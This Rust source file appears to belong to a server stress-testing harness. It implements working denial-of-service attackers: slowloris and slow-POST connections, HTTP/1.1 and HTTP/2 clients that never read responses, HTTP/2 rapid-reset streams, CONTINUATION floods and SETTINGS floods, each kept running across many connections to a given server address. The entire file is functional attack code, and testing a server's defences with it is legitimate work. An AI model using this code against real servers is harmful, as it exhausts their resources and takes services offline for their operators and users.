//! Attackers over TCP: many connections of one kind, each of which sends little.

use std::io::{self, ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use super::{Attack, Orders};

/// Connections opened in one turn. The limit leaves room in the server's backlog for other clients.
const BEGUN_AT_ONCE: usize = 20;

/// The traffic of one kind of attacker.
struct Kind {
    name: &'static str,
    /// Interval at which each connection sends more.
    every: Duration,
    /// Whether the connection reads the responses.
    reads: bool,
    opening: fn() -> Vec<u8>,
    /// The bytes of one turn; the argument is the number of the next HTTP/2 stream.
    step: fn(&mut u32) -> Vec<u8>,
}

const KINDS: &[Kind] = &[
    Kind {
        name: "slow heads (slowloris)",
        every: Duration::from_secs(2),
        reads: true,
        opening: || b"GET /small.html HTTP/1.1\r\nHost: h\r\n".to_vec(),
        step: |_| b"X-A: b\r\n".to_vec(),
    },
    Kind {
        name: "slow content",
        every: Duration::from_secs(5),
        reads: true,
        opening: || post("/small.html"),
        step: |_| b"x".to_vec(),
    },
    Kind {
        name: "clients that read nothing, HTTP/1.1",
        every: Duration::from_secs(2),
        reads: false,
        opening: || b"GET /big.bin HTTP/1.1\r\nHost: h\r\n\r\n".to_vec(),
        step: |_| b"\r\n".to_vec(),
    },
    Kind {
        name: "clients that read nothing, HTTP/2",
        every: Duration::from_secs(2),
        reads: false,
        opening: || {
            // Flow control windows of 0 bytes, and 100 requests at once.
            let mut text = greeting(&[0, 4, 0, 0, 0, 0]);
            for stream in (1..200).step_by(2) {
                text.extend(headers(stream, 0x5));
            }
            text
        },
        step: |_| frame(6, 0, 0, &[0; 8]),
    },
    Kind {
        name: "rapid resets",
        every: Duration::from_millis(500),
        reads: false,
        opening: || greeting(&[]),
        step: |next| {
            let mut text = Vec::new();
            for _ in 0..50 {
                text.extend(headers(*next, 0x5));
                text.extend(frame(3, 0, *next, &[0, 0, 0, 8]));
                *next += 2;
            }
            text
        },
    },
    Kind {
        name: "CONTINUATION floods",
        every: Duration::from_millis(500),
        reads: false,
        opening: || [greeting(&[]), headers(1, 0x1)].concat(),
        step: |_| {
            let one = frame(9, 0, 1, &[0x40; 1_000]);
            one.repeat(10)
        },
    },
    Kind {
        name: "SETTINGS floods",
        every: Duration::from_millis(500),
        reads: false,
        opening: || greeting(&[]),
        step: |_| frame(4, 0, 0, &[]).repeat(200),
    },
];

fn post(path: &str) -> Vec<u8> {
    format!("POST {path} HTTP/1.1\r\nHost: h\r\nContent-Length: 1000000\r\n\r\n").into_bytes()
}

/// Returns an HTTP/2 frame (RFC 9113 section 4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut frame = (payload.len() as u32).to_be_bytes()[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// Returns the preface and SETTINGS.
fn greeting(settings: &[u8]) -> Vec<u8> {
    [
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        &frame(4, 0, 0, settings)[..],
    ]
    .concat()
}

/// `GET http://h/big.bin` in a HEADERS frame.
fn headers(stream: u32, flags: u8) -> Vec<u8> {
    frame(1, flags, stream, b"\x82\x86\x04\x08/big.bin\x01\x01h")
}

/// Starts a thread for each kind.
pub(super) fn start(
    server: SocketAddr,
    count: usize,
    orders: &Arc<Orders>,
) -> Result<Vec<Attack>, String> {
    KINDS
        .iter()
        .map(|kind| {
            let orders = Arc::clone(orders);
            Attack::start(kind.name, move |begun, ended| {
                crowd(kind, server, count, &orders, (begun, ended));
            })
        })
        .collect()
}

/// Keeps `count` connections of one kind open, and replaces closed connections.
fn crowd(
    kind: &Kind,
    server: SocketAddr,
    count: usize,
    orders: &Orders,
    (begun, ended): (&AtomicU64, &AtomicU64),
) {
    let mut places: Vec<Option<(TcpStream, u32)>> = (0..count).map(|_| None).collect();
    while !orders.are_over() {
        let mut room = BEGUN_AT_ONCE;
        for place in &mut places {
            let Some((stream, next)) = place else {
                if room > 0 {
                    room -= 1;
                    if let Ok(stream) = connect(server, kind) {
                        begun.fetch_add(1, Ordering::Relaxed);
                        *place = Some((stream, 1));
                    }
                }
                continue;
            };
            if say(stream, &(kind.step)(next), kind.reads).is_err() {
                ended.fetch_add(1, Ordering::Relaxed);
                *place = None;
            }
        }
        std::thread::sleep(kind.every);
    }
}

fn connect(server: SocketAddr, kind: &Kind) -> io::Result<TcpStream> {
    let mut stream = TcpStream::connect_timeout(&server, Duration::from_secs(1))?;
    stream.set_nonblocking(true)?;
    stream.write_all(&(kind.opening)())?;
    Ok(stream)
}

/// Sends as much of `text` as the socket buffer has room for. Then reads all received bytes, unless `reads` is false.
fn say(stream: &mut TcpStream, text: &[u8], reads: bool) -> io::Result<()> {
    match stream.write(text) {
        Err(error) if error.kind() != ErrorKind::WouldBlock => return Err(error),
        _ => {}
    }
    if !reads {
        return Ok(());
    }
    let mut buffer = [0; 4096];
    loop {
        match stream.read(&mut buffer) {
            Ok(0) => return Err(ErrorKind::UnexpectedEof.into()),
            Ok(_) => {}
            Err(error) if error.kind() == ErrorKind::WouldBlock => return Ok(()),
            Err(error) => return Err(error),
        }
    }
}
